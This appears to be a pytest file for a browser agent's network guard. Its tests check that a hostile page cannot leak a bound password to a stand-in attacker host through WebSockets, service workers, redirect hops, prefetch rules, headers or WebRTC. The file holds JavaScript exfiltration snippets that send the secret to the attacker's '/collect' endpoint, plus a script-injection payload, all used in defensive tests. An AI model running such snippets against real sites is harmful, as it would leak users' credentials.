"""Ways round the network guard that the agent-level escape tests do not drive: a WebSocket, a service worker,
and the redirect hops of a subresource that carries a secret. The hostile page's own script does the sending
(no model needed); the attacker (127.0.0.2) must receive nothing that carries the secret."""

from __future__ import annotations

import pytest
import pytest_asyncio

from tests.hostile import SECRET, Hostile
from webagent.safety import Secrets


@pytest.fixture(scope="module")
def hostile():
    with Hostile() as h:
        yield h


@pytest_asyncio.fixture
async def guarded(browser_session, hostile):
    """The shared browser, allowlist = the victim's origin, {{PW}} bound to it, on the victim's home page."""
    saved = browser_session.config.allowed_domains
    browser_session.config.allowed_domains = []
    await browser_session.new_context()
    browser_session.secrets = Secrets({"PW": SECRET})
    await browser_session.goto(hostile.url + "/")
    hostile.attacker.hits.clear()
    yield browser_session
    browser_session.secrets = Secrets()
    browser_session.config.allowed_domains = saved
    browser_session.config.network = "default"


WS_JS = """async ([a, v]) => await new Promise((done) => {
  let ws; try { ws = new WebSocket(a.replace('http', 'ws') + '/collect?ws=' + v); } catch (e) { return done('refused'); }
  ws.onopen = () => done('open'); ws.onerror = () => done('error'); ws.onclose = () => done('closed'); })"""


async def test_a_websocket_carrying_a_secret_is_refused(guarded, hostile):
    await guarded.page.evaluate(WS_JS, [hostile.attacker.url, SECRET])
    assert hostile.attacker.leaked() == [], hostile.attacker.hits
    assert any("127.0.0.2" in n and "{{PW}}" in n for n in guarded.notices), guarded.notices
    await guarded.page.evaluate(WS_JS, [hostile.url, SECRET])  # to its own host the secret may go
    assert hostile.attacker.hits == []


async def test_strict_network_covers_websockets(guarded, hostile):
    guarded.config.network = "strict"
    await guarded.new_context()
    await guarded.goto(hostile.url + "/")
    await guarded.page.evaluate(WS_JS, [hostile.attacker.url, "nothing-secret"])
    assert hostile.attacker.hits == []
    assert any("--network strict" in n for n in guarded.notices), guarded.notices


SW_JS = """async (v) => {
  const reg = await navigator.serviceWorker.register('/sw.js');
  if (!reg) return 'not registered';
  const sw = (await navigator.serviceWorker.ready).active;
  return await new Promise((done) => { navigator.serviceWorker.onmessage = (e) => done(e.data); sw.postMessage(v); });
}"""


async def test_a_service_worker_cannot_send_a_secret_out(guarded, hostile):
    said = await guarded.page.evaluate(SW_JS, SECRET)
    assert hostile.attacker.leaked() == [], (said, hostile.attacker.hits)
    assert said == "failed"  # the worker ran and its request was refused


FETCH_JS = """async ([url, body]) => { try {
  await fetch(url, body ? {method: 'POST', body, mode: 'no-cors'} : {mode: 'no-cors'}); return 'fetched';
} catch (e) { return 'failed'; } }"""


@pytest.mark.parametrize("how", ["url", "body"])
async def test_a_redirect_hop_cannot_carry_a_secret_elsewhere(guarded, hostile, how):
    """The first request goes to the secret's own host (allowed); an open redirect there would pass it on."""
    a = hostile.attacker.url
    if how == "url":  # 302: the secret rides in the next hop's URL
        said = await guarded.page.evaluate(FETCH_JS, [f"/redirect?to={a}/collect%3Fhop%3D{SECRET}", None])
    else:  # 307: the browser re-sends the body to the next hop
        said = await guarded.page.evaluate(FETCH_JS, [f"/redirect307?to={a}/collect", f"pw={SECRET}"])
    assert hostile.attacker.leaked() == [], (said, hostile.attacker.hits)
    assert said == "failed"
    assert any("redirect hop" in n for n in guarded.notices), guarded.notices
    ok = await guarded.page.evaluate(FETCH_JS, [f"/redirect?to=/file.txt%3Fq%3D{SECRET}", None])
    assert ok == "fetched"  # a hop that stays at home still works


def test_a_redirect_stub_cannot_be_turned_into_a_script():
    """The guard serves a checked redirect hop as a small page at the redirecting URL: a Location header holding
    `</script>` must not end its script early and run the rest in that origin (the browser never would)."""
    import json

    from webagent.browser import _redirect_stub
    target = "http://127.0.0.1:1/x</script><script>document.title='pwned'</script>"
    stub = _redirect_stub(target)
    assert stub.lower().count("</script") == 1 and "<script>document.title" not in stub
    script = stub.split("<script>", 1)[1].rsplit("</script>", 1)[0]
    assert json.loads(script.removeprefix("location.replace(").removesuffix(")")) == target


async def test_redirect_stubs_reach_the_har_when_the_config_moved_on(guarded, hostile, tmp_path):
    """The benchmark runner clears `record_har` before closing the episode's context (which writes the HAR): the
    stub bodies the guard served must still be filled in, or a HAR replay stops on an empty page."""
    import json

    from webagent.settle import REDIRECT_MARK
    har = tmp_path / "network.har"
    guarded.config.record_har = har
    try:
        await guarded.new_context()
        await guarded.goto(hostile.url + "/redirect?to=/")
    finally:
        guarded.config.record_har = None
    await guarded.new_context()
    entries = json.loads(har.read_text())["log"]["entries"]
    hop = [e for e in entries if "/redirect?" in e["request"]["url"]]
    assert hop and REDIRECT_MARK in hop[0]["response"]["content"].get("text", ""), hop


async def test_a_secret_refused_by_a_typed_field_is_not_in_the_error(guarded):
    """A secret typed into a number field is refused before typing; the error names the format, not the value."""
    from webagent.errors import TypingMismatch
    from webagent.fields import type_verified
    await guarded.page.set_content("<input aria-label=PIN type=number>")
    secrets = guarded.secrets
    with pytest.raises(TypingMismatch) as err:
        await type_verified(guarded.page.get_by_label("PIN"), "PIN", SECRET, 2000, secrets.redact)
    assert SECRET not in str(err.value) and "{{PW}}" in str(err.value), str(err.value)


COMBO = """<input role=combobox aria-label=Language aria-controls=lb id=c>
<div role=listbox id=lb hidden><div role=option>Java</div><div role=option>JavaScript</div></div>
<script>c.onclick = () => { lb.hidden = false; };
lb.onclick = (e) => { c.value = e.target.textContent === 'Java' ? 'JavaScript' : e.target.textContent;
                      lb.hidden = true; };</script>"""


async def test_select_on_a_combobox_checks_the_whole_option(guarded):
    """(issue 10's verified select) A combobox that shows `JavaScript` after `Java` was clicked did not take it."""
    from webagent.choose import select
    from webagent.errors import ElementNotActionable
    page = guarded.page
    await page.set_content(COMBO)

    async def settled() -> None:
        return None
    with pytest.raises(ElementNotActionable, match="shows 'JavaScript'"):
        await select(page, page.main_frame, page.locator("#c"), "combobox 'Language'", "Java", 2000, settled)
    await page.set_content(COMBO)
    assert await select(page, page.main_frame, page.locator("#c"), "combobox 'Language'", "JavaScript", 2000,
                        settled) == ["JavaScript"]


async def test_the_run_result_is_redacted_like_the_footer(guarded, hostile, tmp_path):
    """The CLI prints the result's reason, answer and final URL (stdout, stderr, `--json`), and RunResult.save
    writes them: a final URL that carries the secret (a GET login form at its own host) must not show it."""
    from tests.scripted import ScriptedChat
    from webagent.agent import Agent, AgentConfig
    agent = Agent(ScriptedChat(["stop [done]"]), config=AgentConfig(max_steps=2), secrets=guarded.secrets)
    result = await agent.run("log in", hostile.url + "/?pw=" + SECRET, guarded, tmp_path / "run")
    assert result.status == "answered"
    assert SECRET not in result.final_url and "{{PW}}" in result.final_url, result.final_url
    assert SECRET not in result.save(tmp_path / "result.json").read_text()


SPECULATION_JS = """([a, v]) => { const s = document.createElement('script'); s.type = 'speculationrules';
  s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [a + '/collect?prefetch=' + v]}],
                                  prerender: [{source: 'list', urls: [a + '/collect?prerender=' + v]}]});
  document.head.append(s); }"""


async def test_speculation_rules_and_preconnects_reach_nobody(guarded, hostile):
    """The browser process makes speculative prefetches and prerenders itself: no route sees them, whether the rules
    come in a script or in a `Speculation-Rules` response header (which must not drop the page's cookies). A
    `<link rel=preconnect>` opens a socket no route sees either: Chromium drops such hints in the off-the-record
    contexts webagent uses (a regression guard: the listener counts any connection, as the image below shows)."""
    import asyncio
    import socket
    import threading
    listener = socket.create_server(("127.0.0.2", 0))
    accepted: list[int] = []

    def accept() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:  # closed at the end of the test
                return
            accepted.append(1)
            conn.close()
    threading.Thread(target=accept, daemon=True).start()
    try:
        await guarded.goto(f"{hostile.url}/spec-header?pre={listener.getsockname()[1]}")
        await guarded.page.evaluate(SPECULATION_JS, [hostile.attacker.url, SECRET])
        for _ in range(15):  # a prefetch or a preconnect goes out within milliseconds; give it a moment to show up
            if hostile.attacker.hits or accepted:
                break
            await asyncio.sleep(0.1)
        assert hostile.attacker.hits == [] and accepted == []
        assert {c["name"] for c in await guarded.context.cookies()} >= {"one", "two"}
        await guarded.page.evaluate("(u) => { new Image().src = u; }", f"http://127.0.0.2:{listener.getsockname()[1]}/")
        for _ in range(50):
            if accepted:
                break
            await asyncio.sleep(0.02)
        assert accepted  # the listener does see a connection when one is made
    finally:
        listener.close()


HEADER_JS = """async ([a, v]) => { const out = [];
  for (const init of [{headers: {'Accept-Language': v}}, {referrerPolicy: 'unsafe-url'}]) {
    try { await fetch(a + '/collect?via=header', {mode: 'no-cors', ...init}); out.push('fetched'); }
    catch (e) { out.push('failed'); } }
  return out; }"""


async def test_a_secret_in_a_request_header_is_refused(guarded, hostile):
    """A header a page may set without a preflight, and the Referer of a page whose URL holds the secret."""
    await guarded.goto(hostile.url + "/?pw=" + SECRET)  # e.g. where a GET login form at home led
    hostile.attacker.hits.clear()
    said = await guarded.page.evaluate(HEADER_JS, [hostile.attacker.url, SECRET])
    assert hostile.attacker.leaked() == [], hostile.attacker.hits
    assert said == ["failed", "failed"]


@pytest.mark.parametrize("code", [307, 308])
async def test_a_307_after_a_form_post_resends_the_post(guarded, hostile, code):
    """A browser re-sends the method and body on a 307/308: the guard, which follows navigation hops itself, must
    too (not turn it into a GET), and the tab ends at the target's address showing the target's answer."""
    landed = hostile.app.config["landed"]
    landed.clear()
    await guarded.goto(f"{hostile.url}/form307?code={code}")
    async with guarded.page.expect_navigation(url="**/landed"):
        await guarded.page.get_by_role("button", name="Send").click()
    await guarded.page.wait_for_load_state("domcontentloaded")
    assert landed == [("POST", "note=keep+me")]
    assert await guarded.page.title() == "Landed POST" and guarded.page.url == hostile.url + "/landed"


async def test_the_har_keeps_every_context_of_an_episode(guarded, hostile, tmp_path):
    """A search restarts the context inside an episode (backtracking): the episode's HAR keeps the traffic of every
    context, not only the last one's, and no part file is left beside it."""
    import json
    har = tmp_path / "network.har"
    guarded.config.record_har = har
    try:
        await guarded.new_context()
        await guarded.goto(hostile.url + "/?context=one")
        await guarded.restart_context()
        await guarded.goto(hostile.url + "/?context=two")
        await guarded.restart_context()
        await guarded.goto(hostile.url + "/?context=three")
    finally:
        guarded.config.record_har = None
    await guarded.new_context()
    urls = [e["request"]["url"] for e in json.loads(har.read_text())["log"]["entries"]]
    assert [u.split("=")[-1] for u in urls if "context=" in u] == ["one", "two", "three"], urls
    assert [p.name for p in tmp_path.iterdir()] == ["network.har"]


RTC_JS = """async (stun) => {
  if (typeof RTCPeerConnection === 'undefined') return 'absent';
  const pc = new RTCPeerConnection({iceServers: [{urls: stun}]});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise((done) => { setTimeout(done, 3000);
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') done(); }; });
  pc.close(); return 'gathered'; }"""


async def test_webrtc_sends_no_udp_and_is_gone_with_secrets(guarded, hostile):
    """WebRTC opens its own sockets, which no route sees: a STUN server at the attacker (UDP) hears nothing, and a
    run with secrets has no RTCPeerConnection at all, in the page, a new frame or a popup (TURN over TCP would still
    connect without a proxy)."""
    import socket

    from webagent.safety import Secrets
    assert await guarded.page.evaluate(RTC_JS, "stun:127.0.0.2:9") == "absent"
    kinds = await guarded.page.evaluate("""() => { const f = document.createElement('iframe'); document.body.append(f);
      const w = window.open('about:blank'); const out = [typeof webkitRTCPeerConnection,
      typeof f.contentWindow.RTCPeerConnection, w ? typeof w.RTCPeerConnection : 'no popup']; if (w) w.close();
      return out; }""")
    assert kinds == ["undefined"] * 3, kinds
    guarded.secrets = Secrets()  # no secrets: the constructor stays, its UDP does not go out
    await guarded.new_context()
    await guarded.goto(hostile.url + "/")
    stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stun.bind(("127.0.0.2", 0))
    stun.setblocking(False)
    try:
        assert await guarded.page.evaluate(RTC_JS, f"stun:127.0.0.2:{stun.getsockname()[1]}") == "gathered"
        with pytest.raises(BlockingIOError):
            stun.recvfrom(2048)  # nothing arrived
    finally:
        stun.close()
